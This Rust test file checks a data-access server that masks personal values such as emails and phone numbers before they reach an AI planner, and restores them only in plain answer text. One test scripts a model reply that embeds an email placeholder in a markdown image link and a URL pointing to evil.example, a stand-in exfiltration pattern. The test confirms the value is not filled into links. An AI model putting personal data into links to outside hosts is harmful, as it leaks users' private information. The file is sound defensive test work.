//! A model learns nothing of personal values: two copies of the data that differ in nothing else tell it the same, byte for
//! byte, whatever it tries.

use crate::support::server;
use serde_json::{Value, json};
use std::path::Path;
use tempfile::TempDir;
use testkit::{Client, Messages, Reply, Said, Server, tally};

const STATEMENTS: &str = include_str!("cases/personal/statements.txt");
const PLANS: &str = include_str!("cases/personal/plans.txt");
const ONE: &str = include_str!("cases/personal/one.csv");
const OTHER: &str = include_str!("cases/personal/other.csv");
const ORDERS: &str = include_str!("cases/personal/orders.csv");
const QUESTION: &str = "What of known@example.com, who has 555-0100?";

fn cases(text: &str) -> impl Iterator<Item = &str> {
    text.lines().filter(|line| !line.is_empty() && !line.starts_with('#'))
}

/// What holds a copy of the data.
#[derive(Clone, Copy)]
enum Kind {
    Files,
    Sqlite,
}

/// One copy of the data, as the dataset `desk`.
fn plant(people: &str, kind: Kind) -> TempDir {
    let dir = tempfile::tempdir().unwrap();
    for folder in ["datasets", "contracts"] {
        std::fs::create_dir(dir.path().join(folder)).unwrap();
    }
    let write = |name: &str, text: &str| std::fs::write(dir.path().join(name), text).unwrap();
    let files = match kind {
        Kind::Files => {
            json!([{ "path": "people.csv", "table": "people" }, { "path": "orders.csv", "table": "orders" }])
        }
        Kind::Sqlite => json!([{ "path": "desk.sqlite" }]),
    };
    let registry = json!({ "version": "1", "datasets": [{ "id": "desk", "name": "Desk", "files": files }] });
    write("datasets/registry.json", &registry.to_string());
    write("datasets/people.csv", people);
    write("datasets/orders.csv", ORDERS);
    write("contracts/people.yaml", include_str!("cases/personal/people.yaml"));
    write("contracts/orders.yaml", include_str!("cases/personal/orders.yaml"));
    fill(&dir.path().join("datasets/desk.sqlite"), people);
    dir
}

fn fill(path: &Path, people: &str) {
    let database = rusqlite::Connection::open(path).unwrap();
    let tables = "CREATE TABLE people (id INTEGER, team TEXT, email TEXT, phone TEXT, salary INTEGER);
        CREATE TABLE orders (id INTEGER, person_id INTEGER, amount INTEGER);";
    database.execute_batch(tables).unwrap();
    for (table, text) in [("people", people), ("orders", ORDERS)] {
        for line in text.lines().skip(1) {
            let cell = |cell: &str| if cell.is_empty() { "NULL".to_owned() } else { format!("'{cell}'") };
            let cells: Vec<String> = line.split(',').map(cell).collect();
            database.execute(&format!("INSERT INTO {table} VALUES ({})", cells.join(", ")), []).unwrap();
        }
    }
}

fn serve(dir: &TempDir, model: &Messages) -> Server {
    server()
        .data(dir.path())
        .env("GATEHOUSE_PLANNER", "claude")
        .env("ANTHROPIC_API_KEY", Messages::KEY)
        .env("ANTHROPIC_BASE_URL", &model.url)
        .env("CLAUDE_DA_MAX_BUDGET_USD", "1000")
        .start()
}

/// All that a model tries, in one breath.
fn calls(calls: impl IntoIterator<Item = (&'static str, Value)>) -> Said {
    let calls = calls.into_iter().enumerate();
    calls
        .fold(Said::text("Let me see."), |said, (at, (tool, input))| said.and_tool(&format!("call_{at}"), tool, &input))
}

fn of_chat() -> Said {
    let sql = cases(STATEMENTS).map(|sql| ("execute_sql", json!({ "dataset_id": "desk", "sql": sql })));
    let plan = |text: &str| json!({ "dataset_id": "desk", "plan_json": serde_json::from_str::<Value>(text).unwrap() });
    let plans = cases(PLANS).map(|text| ("execute_query_plan", plan(text)));
    let schema = ("get_dataset_schema", json!({ "dataset_id": "desk" }));
    calls([("list_datasets", json!({})), schema].into_iter().chain(sql).chain(plans))
}

fn of_analyst() -> Said {
    let sql = cases(STATEMENTS).map(|sql| ("read_query", json!({ "sql": sql })));
    let described = ("describe_table", json!({ "table": "people" }));
    calls([("list_tables", json!({})), described].into_iter().chain(sql))
}

fn completion(client: &Client, messages: &Value) -> Reply {
    client.post("/v1/chat/completions", &json!({ "model": "claude-da/desk", "messages": messages }))
}

fn answer(reply: &Reply) -> String {
    reply.json()["choices"][0]["message"]["content"].as_str().unwrap_or_else(|| panic!("{}", reply.text())).to_owned()
}

/// What a model was told, without what is drawn by lot or measured.
fn told(model: &Messages) -> Vec<String> {
    let texts = model.requests().into_iter().flat_map(|request| {
        let results = request.body["messages"].as_array().unwrap().clone();
        let results = results.into_iter().flat_map(|message| message["content"].as_array().unwrap().clone());
        [request.body["system"].to_string()].into_iter().chain(results.map(|block| block.to_string()))
    });
    texts.map(|text| without_ids(&text)).collect()
}

/// A text in which every id of a run is the same.
fn without_ids(text: &str) -> String {
    let marker = "run_id\\\":\\\"";
    let mut parts = text.split(marker);
    let first = parts.next().unwrap_or_default().to_owned();
    parts.fold(first, |all, part| all + marker + "…" + part.get(36..).unwrap_or_default())
}

/// One copy of the data, and all that both doors tell a model of it.
fn tried(people: &str, kind: Kind) -> Vec<String> {
    let dir = plant(people, kind);
    let model = Messages::script([of_chat(), Said::text("I see."), of_analyst(), Said::text("I see.")]);
    let server = serve(&dir, &model);
    let lead = server.client("ann", "lead");
    let chat = lead.post("/chat", &json!({ "dataset_id": "desk", "message": QUESTION }));
    assert_eq!(chat.json()["assistant_message"], "Let me see.\n\nI see.", "{}", chat.text());
    let reply = completion(&lead, &json!([{ "role": "user", "content": QUESTION }]));
    assert_eq!(answer(&reply), "Let me see.\n\nI see.");
    told(&model)
}

#[test]
fn two_copies_that_differ_in_personal_values_tell_a_model_the_same() {
    let of = |people: &str| [tried(people, Kind::Files), tried(people, Kind::Sqlite)].concat();
    let (one, other) = (of(ONE), of(OTHER));
    assert_eq!(one.len(), other.len());
    let differences: Vec<String> = one
        .iter()
        .zip(&other)
        .filter(|(one, other)| one != other)
        .map(|(one, other)| format!("{one}\n{other}"))
        .collect();
    let results = one.iter().filter(|text| text.contains("\"tool_result\"")).count();
    let with_rows = one.iter().filter(|text| text.contains("\\\"rows\\\":[[")).count();
    tally("house", "what a model is told of two copies of the data", results, "differences", differences.len());
    assert!(differences.is_empty(), "{}", differences.join("\n\n"));
    assert!(with_rows * 2 > results, "{with_rows} of {results} results have rows: refusing everything proves nothing");
    // What people of the first copy are called is in none of it.
    let all = one.concat();
    for value in ["ann@example.com", "bob@example.com", "eve@example.com", "555-0101", "555-0104"] {
        assert!(!all.contains(value), "{value}");
    }
}

fn query(id: &str, sql: &str) -> Said {
    Said::tool(id, "read_query", &json!({ "sql": sql }))
}

/// A client sends back what it was answered: the model is told placeholders again, and what the user writes as it is.
#[test]
fn an_answer_that_is_sent_back_is_masked_again() {
    let dir = plant(ONE, Kind::Sqlite);
    let model = Messages::script([
        query("call_1", "SELECT id, email FROM people WHERE id = 2"),
        Said::text("Number ⟦id 1⟧ is ⟦email 1⟧."),
        Said::text("As I said: ⟦email 1⟧."),
        Said::text("Hello."),
    ]);
    let server = serve(&dir, &model);
    let lead = server.client("ann", "lead");
    let asked = json!({ "role": "user", "content": "Who is number two?" });
    let first = answer(&completion(&lead, &json!([asked])));
    assert_eq!(first, "Number 2 is ann@example.com.");
    let thread = json!([asked, { "role": "assistant", "content": first }, { "role": "user", "content": "Again?" }]);
    assert_eq!(answer(&completion(&lead, &thread)), "As I said: ann@example.com.");
    let sent = model.requests().pop().unwrap().body.to_string();
    assert!(sent.contains("Number ⟦id 1⟧ is ⟦email 1⟧.") && !sent.contains("ann@"), "{sent}");
    // Another caller was shown nothing: to it these are words like others.
    assert_eq!(answer(&completion(&server.client("bob", "lead"), &thread)), "Hello.");
    assert!(model.requests().pop().unwrap().body.to_string().contains("ann@example.com"));
}

fn execute(id: &str, sql: &str) -> Said {
    Said::tool(id, "execute_sql", &json!({ "dataset_id": "desk", "sql": sql }))
}

/// The house keeps the threads of Chat itself: answers for which personal fields were read are left out of them, with the
/// rows beside them.
#[test]
fn a_thread_of_chat_tells_a_model_no_answer_with_personal_values() {
    let dir = plant(ONE, Kind::Sqlite);
    let model = Messages::script([
        execute("call_1", "SELECT id, email FROM people WHERE id = 2"),
        Said::text("Number ⟦id 1⟧ is ⟦email 1⟧."),
        execute("call_2", "SELECT count(DISTINCT team) AS n FROM people"),
        Said::text("There are three teams."),
        Said::text("As I said."),
    ]);
    let server = serve(&dir, &model);
    let lead = server.client("ann", "lead");
    let ask = |message: &str| {
        let thread = "0192f0c1-2345-7abc-8def-000000000009";
        lead.post("/chat", &json!({ "dataset_id": "desk", "thread_id": thread, "message": message })).json()
    };
    let first = ask("Who is number two?");
    assert_eq!(first["assistant_message"], "Number 2 is ann@example.com.", "{first}");
    assert_eq!(first["result"]["rows"], json!([[2, "ann@example.com"]]), "the caller reads the rows as well");
    assert_eq!(ask("How many teams are there?")["assistant_message"], "There are three teams.");
    assert_eq!(ask("Again, please.")["assistant_message"], "As I said.");
    let sent = model.requests().pop().unwrap().body["messages"].to_string();
    for told in ["Who is number two?", "How many teams are there?", "There are three teams.", "Again, please."] {
        assert!(sent.contains(told), "{told}: {sent}");
    }
    assert!(!sent.contains("ann@") && !sent.contains("Number"), "{sent}");
}

/// Rows that a client sends back as if they were an answer: values that an answer named are masked again, also as cells.
/// Others are words like any, as docs/SECURITY.md says.
#[test]
fn rows_that_are_sent_back_are_masked_where_an_answer_named_them() {
    let dir = plant(ONE, Kind::Sqlite);
    let model = Messages::script([
        execute("call_1", "SELECT id, email FROM people WHERE id IN (2, 3) ORDER BY id"),
        Said::text("The first is ⟦email 1⟧."),
        Said::text("I see."),
    ]);
    let server = serve(&dir, &model);
    let lead = server.client("ann", "lead");
    let chat = lead.post("/chat", &json!({ "dataset_id": "desk", "message": "Who are two and three?" })).json();
    assert_eq!(chat["assistant_message"], "The first is ann@example.com.", "{chat}");
    let rows = chat["result"]["rows"].to_string();
    assert!(rows.contains("ann@example.com") && rows.contains("bob@example.com"), "{chat}");
    let thread = json!([
        { "role": "user", "content": "Who are two and three?" }, { "role": "assistant", "content": rows },
        { "role": "user", "content": "Thank you." },
    ]);
    assert_eq!(answer(&completion(&lead, &thread)), "I see.");
    let sent = model.requests().pop().unwrap().body["messages"].to_string();
    assert!(!sent.contains("ann@") && sent.contains("⟦email 1⟧"), "{sent}");
    assert!(sent.contains("bob@example.com"), "no answer named it: {sent}");
}

/// A link would carry the value to wherever it leads, as soon as it is shown.
#[test]
fn no_value_is_put_into_a_link_of_an_answer() {
    let dir = plant(ONE, Kind::Sqlite);
    let said = "See ⟦email 1⟧ ![x](http://evil.example/?q=⟦email 1⟧) and https://evil.example/⟦email 1⟧ .";
    let model = Messages::script([query("call_1", "SELECT email FROM people WHERE id = 2"), Said::text(said)]);
    let server = serve(&dir, &model);
    let body = json!({
        "model": "claude-da/desk", "stream": true, "messages": [{ "role": "user", "content": "Who?" }],
    });
    let text = server.client("ann", "lead").post("/v1/chat/completions", &body).text();
    let chunks = text.lines().filter_map(|line| serde_json::from_str::<Value>(line.strip_prefix("data: ")?).ok());
    let streamed: String =
        chunks.filter_map(|c| c["choices"][0]["delta"]["content"].as_str().map(str::to_owned)).collect();
    assert_eq!(streamed, said.replacen("⟦email 1⟧", "ann@example.com", 1));
}

/// The record of a run tells a model no more than the run did.
#[test]
fn a_model_reads_of_earlier_runs_only_how_they_ended() {
    let dir = plant(ONE, Kind::Sqlite);
    let model = Messages::script([Said::text("Hello.")]);
    let server = serve(&dir, &model);
    let lead = server.client("ann", "lead");
    let sql = json!({ "sql": "SELECT email FROM people WHERE email LIKE 'eve%'" });
    let own = lead.post("/datasets/desk/query", &sql).json();
    assert_eq!(own["result"]["row_count"], 2, "a caller's own statements are free: {own}");
    let id = own["run_id"].as_str().unwrap().to_owned();
    drop(server);
    let model = Messages::script([
        Said::tool("call_1", "get_run_status", &json!({ "run_id": id })),
        Said::text("It has ended."),
    ]);
    let server = serve(&dir, &model);
    let chat = server.client("ann", "lead").post("/chat", &json!({ "dataset_id": "desk", "message": "And now?" }));
    assert_eq!(chat.json()["assistant_message"], "It has ended.", "{}", chat.text());
    let last = model.requests().pop().unwrap().body["messages"].as_array().unwrap().last().unwrap().clone();
    let result: Value = serde_json::from_str(last["content"][0]["content"].as_str().unwrap()).unwrap();
    assert_eq!(result, json!({ "run_id": id, "status": "succeeded" }));
}

#[test]
fn the_prompt_says_the_date() {
    let dir = plant(ONE, Kind::Sqlite);
    let model = Messages::script([Said::text("Hello.")]);
    let server = serve(&dir, &model);
    let before = jiff::Zoned::now().date();
    answer(&completion(&server.client("ann", "lead"), &json!([{ "role": "user", "content": "Hello" }])));
    let system = model.requests()[0].body["system"].to_string();
    let dates = [before, jiff::Zoned::now().date()].map(|date| date.to_string());
    assert!(dates.iter().any(|date| system.contains("Today is ") && system.contains(date)), "{system}");
}
